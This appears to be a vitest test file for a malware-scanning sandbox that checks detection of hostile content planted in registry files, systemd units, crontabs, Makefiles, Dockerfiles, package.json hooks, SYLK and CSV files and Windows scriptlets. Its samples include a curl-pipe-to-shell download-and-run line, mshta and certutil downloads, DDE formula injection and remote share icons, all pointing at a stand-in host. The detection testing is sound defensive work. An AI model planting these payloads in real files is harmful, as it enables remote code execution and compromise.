import { afterAll, describe, expect, test } from 'vitest';
import { loadEngine } from '../sandbox-runner/engine.ts';
import { identify } from '../sandbox-runner/identify.ts';
import { signalsOf } from '../sandbox-runner/signals.ts';
import { tinyPe, zip } from './samples/binaries.ts';

const engine = await loadEngine();
afterAll(async () => await engine.close());

const examined = async (text: string | Buffer, name: string) => {
  const found = await engine.examiner.examine(Buffer.from(text as string), name);
  return { ...found, rules: signalsOf(engine.sigma, { found: found.signals, written: found.written, runs: [] }).map((one) => one.rule), commands: found.written.flatMap((one) => one.commands) };
};
const fetch = 'curl -fsSL http://files.example-host.net/x.sh | sh';
const share = '\\\\files.example-host.net@80\\pub';
const wrapped = (bytes: Buffer) => bytes.toString('base64').replace(/.{64}/g, '$&\n');

describe('a text that a system acts on', () => {
  test.each<[format: string, name: string, text: string, rule: string]>([
    ['reg', 'note.txt', 'REGEDIT4\n\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce]\n"a"="rundll32 x.dll,Start"\n', 'assay-windows-run-key-command'],
    ['desktop', 'launcher', `# made by hand\n[Desktop Entry]\nType=Application\nExec=bash -c "${fetch}"\n`, 'assay-linux-download-execute'],
    ['unit', 'sync', `[Unit]\nDescription=a\n[Service]\nExecStartPre=-/bin/sh -c "${fetch}"\n`, 'assay-linux-download-execute'],
    ['crontab', 'jobs', `SHELL=/bin/sh\n*/5 * * * * root ${fetch}\n`, 'assay-linux-download-execute'],
    ['makefile', 'Makefile', `all: x\n\techo x\nx:\n\t@${fetch}\n`, 'assay-linux-download-execute'],
    ['dockerfile', 'Containerfile', `FROM alpine:3\nRUN ["sh", "-c", "${fetch}"]\n`, 'assay-linux-download-execute'],
    ['package', 'package.json', JSON.stringify({ name: 'a', scripts: { test: 'node .', postinstall: fetch } }), 'assay-linux-download-execute'],
    ['scf', 'view.scf', `[Shell]\nCommand=2\nIconFile=${share}\\a.ico\n`, 'assay-link-icon'],
    ['theme', 'blue.theme', `[Theme]\nDisplayName=Blue\nBrandImage=${share}\\b.png\n`, 'assay-link-icon'],
    ['inf', 'setup', '[Version]\nSignature="$CHICAGO$"\n[DefaultInstall]\nRegisterOCXs=R\n[R]\n%11%\\scrobj.dll,NI,http://files.example-host.net/a.sct\n', 'assay-inf-remote'],
    ['inf', 'autorun.inf', '[autorun]\nopen=mshta.exe http://files.example-host.net/a.hta\n', 'assay-windows-lolbin'],
    ['library', 'folder', `<?xml version="1.0"?><!-- a --><searchConnectorDescription xmlns="x"><simpleLocation><url>${share}</url></simpleLocation></searchConnectorDescription>`, 'assay-link-folder'],
    ['settingcontent', 'page', '<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink><![CDATA[mshta.exe http://files.example-host.net/a.hta]]></DeepLink></ApplicationInformation></SearchableContent></PCSettings>', 'assay-windows-lolbin'],
    ['msbuild', 'a.xml', '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><UsingTask TaskName="T" TaskFactory="RoslynCodeTaskFactory"><Task><Code>class A {}</Code></Task></UsingTask></Project>', 'assay-msbuild-code'],
    ['msbuild', 'b.vbproj', '<Project Sdk="x"><Target Name="b"><Exec Command=\'certutil -urlcache -f http://files.example-host.net/a a.exe\'/></Target></Project>', 'assay-windows-download'],
    ['msc', 'view', '<?xml version="1.0"?><MMC_ConsoleFile><StringTables><String ID="1">javascript:eval(1)</String></StringTables></MMC_ConsoleFile>', 'assay-msc-script'],
    ['sct', 'a.xml', '<?XML version="1.0"?><scriptlet><registration progid="a"><script language="JScript"><![CDATA[new ActiveXObject("WScript.Shell").Run("a"); new ActiveXObject("MSXML2.XMLHTTP")]]></script></registration></scriptlet>', 'yara-script_shell_download'],
    ['xsl', 'a.xml', '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><ms:script language="JScript">var x = new ActiveXObject("MSXML2.XMLHTTP"), s = new ActiveXObject("WScript.Shell"); s.Run("a")</ms:script></xsl:stylesheet>', 'yara-script_shell_download'],
    ['sylk', 'list', 'ID;PWXL;N;E\nO;E\nNN;NAuto_Open;ER1C1\nC;Y1;X1;EEXEC("mshta http://files.example-host.net/a")\nE\n', 'assay-document-xlm'],
    ['text', 'list.tsv', 'a\tb\n1\t@SUM(1)*cmd|\'/c mshta http://files.example-host.net/a\'!A0\n', 'assay-document-dde'],
  ])('is known as %s when it is called %s, and what it runs or leads to is found', async (format, name, text, rule) => {
    for (const bytes of [Buffer.from(text), Buffer.from(`\ufeff${text}`, 'utf16le')]) {
      const found = await examined(bytes, name);
      expect(found.identity.format).toBe(format);
      expect(found.rules).toContain(rule);
    }
  });
  test.each([
    ['a.iqy', 'WEB\n1\nhttp://files.example-host.net/table\n'], ['a.jnlp', '<jnlp codebase="http://files.example-host.net/" href="table"><resources><jar href="a.jar"/></resources></jnlp>'],
    ['a.application', '<asmv1:assembly><deployment install="true"><deploymentProvider codebase="http://files.example-host.net/table"/></deployment></asmv1:assembly>'],
    ['a.ics', 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nURL:http://files.example-host.net/ta\r\n ble\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'],
  ])('%s is no plain text, and where it leads is an indicator', async (name, text) => {
    const found = await examined(text, name);
    expect(found.identity.mediaType).not.toBe('text/plain');
    expect(found.facts.facts).toContain('files.example-host.net/');
  });
  test('has its values as the system will see them', async () => {
    const text = `Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Classes\\a\\shell\\open\\command]\r\n@=hex(2):${[...Buffer.from('mshta http://files.example-host.net/a\0', 'utf16le')].map((byte) => byte.toString(16).padStart(2, '0')).join().replace(/.{60},/g, '$&\\\r\n  ')}\r\n`;
    expect((await examined(text, 'a.reg')).commands).toContain('mshta http://files.example-host.net/a');
  });
});

describe('files that are written as text', () => {
  const inside = zip({ 'inner.sh': '#!/bin/sh\necho a\n' });
  const uu = (bytes: Buffer) => Array.from({ length: Math.ceil(bytes.length / 45) }, (_, n) => bytes.subarray(n * 45, n * 45 + 45)).map((part) => {
    const three = Buffer.concat([part, Buffer.alloc((3 - (part.length % 3)) % 3)]);
    const letters = Array.from({ length: three.length / 3 }, (_, n) => three.readUIntBE(n * 3, 3)).map((word) => [18, 12, 6, 0].map((shift) => String.fromCharCode(32 + ((word >> shift) & 63) || 96)).join('').replaceAll(' ', '`')).join('');
    return String.fromCharCode(32 + part.length) + letters;
  }).join('\n');
  test.each([
    ['PEM', `-----BEGIN CERTIFICATE-----\n${wrapped(inside)}\n-----END CERTIFICATE-----\n`], ['uuencode', `Hello\n\nbegin 644 a.zip\n${uu(inside)}\n\`\nend\n`],
    ['uuencode with base64', `begin-base64 644 a.zip\n${wrapped(inside)}\n====\n`], ['base64', `Please find it here:\n\n${wrapped(inside)}\n\nBye\n`],
  ])('by %s are members', async (_way, text) => {
    expect((await examined(text, 'note.txt')).members.map((one) => one.fileName)).toContain('inner.sh');
  });
  test('in the coat of a certificate are suspicious when they are programs', async () => {
    expect((await examined(`-----BEGIN CERTIFICATE-----\n${wrapped(tinyPe({ bits: 64 }))}\n-----END CERTIFICATE-----\n`, 'ca.crt')).rules).toContain('assay-text-program');
  });
});

describe('a script without an ending', () => {
  test.each([
    ['python3', 'import os\nimport sys\n\ndef main():\n    os.system("id")\n\nmain()\n'], ['python3', "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"],
    ['js', "var a = ['x', 'y'].join('');\nfunction go(b) {\n  return new this[a](b + 'c');\n}\ngo(1);\n"], ['bat', 'set a=b\r\nif not exist %a% goto end\r\n:end\r\n'],
  ])('is known as %s by several of its marks', async (interpreter, text) => {
    expect((await identify(Buffer.from(text), 'loader')).interpreter).toBe(interpreter);
  });
});

describe('an honest twin', () => {
  test.each([
    ['todo.txt', 'Tuesday\ncall the tax office\nset the table\nrem koolhaas lecture\n'], ['dump.sql', "SET NAMES utf8;\nSET FOREIGN_KEY_CHECKS=0;\nSET @a=1;\nINSERT INTO t VALUES ('=a|b');\n"],
    ['letter.txt', 'from here on the import of goods is free:\nimport duties\nclass of 2020:\n'], ['app.desktop', '[Desktop Entry]\nType=Application\nName=Editor\nExec=gedit %U\nIcon=gedit\n'],
    ['app.reg', 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Editor]\r\n"Font"="Consolas"\r\n'], ['table.slk', 'ID;PWXL;N;E\nC;Y1;X1;K"Name"\nC;Y2;X1;K4;ER1C1+1\nE\n'],
    ['data.csv', 'name,value\na,=SUM(B1:B2)\nb|c,-3\n'], ['data.psv', '=x|a|b!\na|b|c\n'], ['blue.theme', '[Theme]\nDisplayName=Blue\n[Control Panel\\Desktop]\nWallpaper=%SystemRoot%\\web\\a.jpg\n'],
    ['docs.library-ms', '<libraryDescription><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></libraryDescription>'], ['lib.csproj', '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>'],
    ['web.service', '[Unit]\nDescription=Web\n[Service]\nExecStart=/usr/sbin/nginx -g "daemon off;"\n'], ['package.json', '{"name": "a", "scripts": {"test": "node --test"}}'], ['Dockerfile', 'FROM node:22\nWORKDIR /app\nCMD ["node", "."]\n'],
    ['meeting.ics', 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Lunch\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'], ['map.xsl', '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"/></xsl:stylesheet>'],
    ['ca.pem', `-----BEGIN CERTIFICATE-----\n${wrapped(Buffer.concat([Buffer.from('308201f0', 'hex'), Buffer.alloc(0x1f0, 7)]))}\n-----END CERTIFICATE-----\n`],
  ])('%s raises no signal, holds no member and is no script', async (name, text) => {
    const found = await examined(text, name);
    expect(found.rules.filter((rule) => found.signals.some((one) => one.rule === rule && one.weight > 2))).toEqual([]);
    expect(found.rules.filter((rule) => /^assay-(windows|linux)/.test(rule) && !/^assay-windows-(reg|table-settings-t1112)$/.test(rule))).toEqual([]);
    expect(found.members).toEqual([]);
    expect(found.identity.kind).not.toBe('script');
  });
  test('of data that was read to its end says so, and whether anything in it acts', async () => {
    const facts = async (text: string, name: string) => JSON.parse((await examined(text, name)).facts.facts) as { complete?: boolean; active?: boolean };
    expect(await facts('{"a": 1}', 'a.json')).toMatchObject({ complete: true, active: false });
    expect(await facts('{"a": ', 'a.json')).toMatchObject({ complete: false });
    expect(await facts('a,b\n1,2\n', 'a.csv')).toMatchObject({ complete: true, active: false });
    expect(await facts('a,=cmd|\'/c a\'!A0\n', 'a.csv')).toMatchObject({ complete: true, active: true });
    const prose = await facts('Nobody knows what this text is.\n', 'a.txt');
    expect([prose.complete, prose.active]).toEqual([undefined, undefined]);
  });
});

describe('a text that is made to keep a reader busy', () => {
  test.each([
    ['a.csv', '=a|'], ['a.reg', 'Windows Registry Editor Version 5.00\n[HKEY_A\\Run]\n"a"="'], ['a.slk', 'C;X;EEXEC("'], ['a.ics', 'ATTACH;ENCODING=BASE64:A\n '], ['a.msc', '<String ID="1">javascript:'], ['a.inf', '[a]\nx=\\\n'], ['a.txt', 'QUJDREVGR0hJSktMTU5P\n'],
    ['a.txt', '-----BEGIN A-----\n'], ['Makefile', 'a:\n\t$(shell '], ['a.csproj', '<Project><Code><![CDATA['], ['a.txt', 'begin 644 a\nM'], ['a.desktop', '[Desktop Entry]\nExec=sh -c "'],
  ])('%s of many %j is read within its bounds', async (name, piece) => {
    const found = await examined(piece.repeat(Math.floor(1_000_000 / piece.length)), name);
    expect(found.limitations.filter((one) => /^STATIC_/.test(one))).toEqual([]);
  });
});
